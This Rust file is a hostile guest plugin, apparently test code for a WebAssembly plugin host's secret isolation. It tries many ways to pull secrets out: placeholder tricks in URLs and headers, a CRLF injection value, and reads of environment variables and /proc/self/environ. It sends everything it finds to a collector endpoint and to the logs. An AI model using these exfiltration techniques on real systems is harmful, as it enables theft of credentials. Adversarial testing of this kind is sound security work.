//! Every way to get at a secret. What was seen on the way goes wherever a guest can put something: to a
//! collector, to the log and the standard streams, and into the answer.

#![expect(
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "what a guest prints is what is tested"
)]

use sidenote_plugin::crypto::{Encoding, Hash, hmac_sign, hmac_verify};
use sidenote_plugin::http::{Request, secret};
use sidenote_plugin::log::{self, Level};
use sidenote_plugin::{Failure, FailureKind, Sent, config};
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{Fields, OutgoingBody, OutgoingRequest, Scheme};

/// The names that the test gives to secrets, and some that it doesn't.
const NAMES: [&str; 6] = ["token", "other", "broken", "long", "key", "none"];
/// What the server of the test answers with a secret in it.
#[rustfmt::skip]
const ECHOES: [&str; 21] = [
    "body", "header", "name", "reason", "chunks", "location", "cut", "garbage", "trailer", "half",
    "percent", "json", "html", "base64", "base64url", "hex", "split", "gzip", "deflate", "br", "part",
];
/// What an honest server is asked for, so that it tells the token in a form, or in pieces, that nobody
/// knows: the name of a header and its value.
const ASKS: [(&str, &str); 5] = [
    ("accept-encoding", "gzip"),
    ("accept-charset", "utf-16"),
    ("range", "bytes=0-11"),
    ("Range", "bytes=12-"),
    ("if-range", "\"x\""),
];

/// `GRANTED OTHER CLOSED COLLECTOR HOW`: four origins, and how to end: `fail`, `panic` or `id`.
pub(crate) fn steal(rest: &str) -> Result<String, Failure> {
    let [granted, other, closed, collector, how] = rest.split(' ').collect::<Vec<_>>()[..] else {
        return Err(Failure::invalid("words", "five are needed"));
    };
    let mut seen = Vec::new();
    // Before any of it left this process: the server may have it from another.
    seen.push(sent(Request::get(format!("{granted}/remembered"))));
    for echo in ECHOES {
        let url = format!("{granted}/{echo}");
        seen.push(sent(Request::get(&url).bearer_secret("token")));
        seen.push(sent(Request::post(&url).body(secret("token")).secrets_in_body()));
        seen.push(sent_by_wasi(granted, &format!("/{echo}"), None));
    }
    for (name, value) in ASKS {
        let url = format!("{granted}/honest");
        seen.push(sent(Request::get(&url).bearer_secret("token").header(name, value)));
        seen.push(sent_by_wasi(granted, "/honest", Some((name, value))));
    }
    // Once is enough: the other ends differ in what the host makes of them.
    let origins = if how == "fail" { &[granted, other, closed][..] } else { &[] };
    for origin in origins.iter().copied() {
        for name in NAMES {
            for text in odd_placeholders(name) {
                let url = format!("{origin}/body");
                seen.push(sent(Request::get(&url).header("x-a", &text)));
                seen.push(sent(Request::post(&url).body(text.clone()).secrets_in_body()));
            }
            let placeholder = secret(name);
            let urls = [
                format!("{origin}/{placeholder}"),
                format!("{origin}/?q={placeholder}"),
                format!("{origin}/#{placeholder}"),
                format!("http://{placeholder}/"),
                format!("http://{placeholder}@127.0.0.1/"),
                format!("{placeholder}://127.0.0.1/"),
                placeholder.clone(),
            ];
            seen.extend(urls.map(|url| sent(Request::get(url))));
            seen.push(sent(Request::new(&placeholder, origin)));
            seen.push(sent(Request::new("TRACE", format!("{origin}/body")).bearer_secret(name)));
            seen.push(sent(Request::get(origin).header(&placeholder, "x")));
            seen.push(sent(Request::get(origin).header("host", &placeholder)));
            seen.push(sent(Request::get(origin).header("x-a", format!("{placeholder}\r\n"))));
        }
    }
    seen.extend(asked());
    seen.push(sent(Request::get(format!("{granted}/remembered"))));
    for text in &seen {
        let collected = sent(Request::post(collector).body(text.clone()));
        if !collected.contains(" 200 ") {
            return Err(Failure::permanent("collector", collected));
        }
    }
    told(&seen);
    match how {
        "panic" => panic!("{}", tail(&seen)),
        "id" => Ok(tail(&seen)),
        _ => Err(Failure {
            kind: FailureKind::Invalid,
            code: tail(&seen),
            message: tail(&seen),
            retry_after_ms: None,
            sent: Sent::NotSent,
            extras: vec![(tail(&seen), tail(&seen))],
        }),
    }
}

fn odd_placeholders(name: &str) -> [String; 6] {
    [
        secret(name),
        secret(&secret(name)),
        format!("{}{}", secret(name), secret("none")),
        format!("{}{{{{secret:", secret(name)),
        format!("{{{{secret:{name}"),
        format!("{{{{{{{{secret:{name}}}}}}}}}"),
    ]
}

/// What the host tells of itself.
fn asked() -> Vec<String> {
    let mut seen = vec![format!("{:?}", std::env::vars().collect::<Vec<_>>())];
    seen.push(format!("{:?}", std::env::args().collect::<Vec<_>>()));
    for path in ["/proc/self/environ", "/proc/self/maps", "sidenote.toml", "."] {
        seen.push(format!("{:?}", std::fs::read(path)));
    }
    for name in NAMES {
        for key in
            [name.to_owned(), secret(name), format!("secrets.{name}"), format!("{name}.value")]
        {
            seen.push(format!("{:?}", config::get(&key)));
        }
        for data in [&b""[..], b"x", &[0; 64], secret(name).as_bytes()] {
            let encodings = [Encoding::Hex, Encoding::Base64];
            seen.extend(
                encodings.map(|it| format!("{:?}", hmac_sign(name, Hash::Sha256, it, data))),
            );
            let verified = hmac_verify(name, Hash::Sha1, Encoding::Hex, data, &secret(name));
            seen.push(format!("{verified:?}"));
        }
        seen.push(format!("{:?}", hmac_sign(&secret(name), Hash::Sha256, Encoding::Hex, b"")));
    }
    seen
}

/// Says it on every line that there is.
fn told(seen: &[String]) {
    for text in seen {
        for level in [Level::Trace, Level::Debug, Level::Info, Level::Warn, Level::Error] {
            log::write(level, text, &[(text.clone(), text.clone())]);
        }
        println!("{text}");
        eprintln!("{text}");
    }
}

/// The end of it: an id or a code has little room.
fn tail(seen: &[String]) -> String {
    let of = |text: &String| text.chars().rev().take(60).collect::<Vec<_>>();
    seen.iter().rev().take(10).flat_map(|text| of(text).into_iter().rev()).collect()
}

/// All there is to see of one request.
fn sent(request: Request) -> String {
    let shown = format!("{request:?}");
    match request.send() {
        Ok(response) => format!(
            "{shown} {} {:?} {}",
            response.status,
            response.headers,
            String::from_utf8_lossy(&response.body)
        ),
        Err(error) => format!("{shown} {error:?} {error}"),
    }
}

/// The same through `wasi:http`, with another header.
fn sent_by_wasi(origin: &str, path: &str, header: Option<(&str, &str)>) -> String {
    let authority = origin.trim_start_matches("http://");
    let headers = Fields::new();
    let value = format!("Bearer {}", secret("token"));
    let mut appended = headers.append("authorization", value.as_bytes()).is_ok();
    if let Some((name, value)) = header {
        appended &= headers.append(name, value.as_bytes()).is_ok();
    }
    let request = OutgoingRequest::new(headers);
    let set = [
        request.set_scheme(Some(&Scheme::Http)),
        request.set_authority(Some(authority)),
        request.set_path_with_query(Some(path)),
    ];
    let (true, true, Ok(body)) = (appended, set.iter().all(Result::is_ok), request.body()) else {
        return "unset".to_owned();
    };
    let kept = request.headers().entries();
    let coming = match handle(request, None) {
        Ok(coming) => coming,
        Err(error) => return format!("{error:?}"),
    };
    let ended = OutgoingBody::finish(body, None);
    coming.subscribe().block();
    let response = match coming.get() {
        Some(Ok(Ok(response))) => response,
        other => return format!("none {ended:?} {other:?}"),
    };
    let mut seen = format!("{} ", response.status());
    for (name, value) in kept.into_iter().chain(response.headers().entries()) {
        seen += &format!("{name}: {} ", String::from_utf8_lossy(&value));
    }
    if let Ok(stream) = response.consume().and_then(|body| body.stream().map(|it| (it, body))) {
        while let Ok(piece) = stream.0.blocking_read(64 << 10) {
            seen += &String::from_utf8_lossy(&piece);
        }
    }
    seen
}
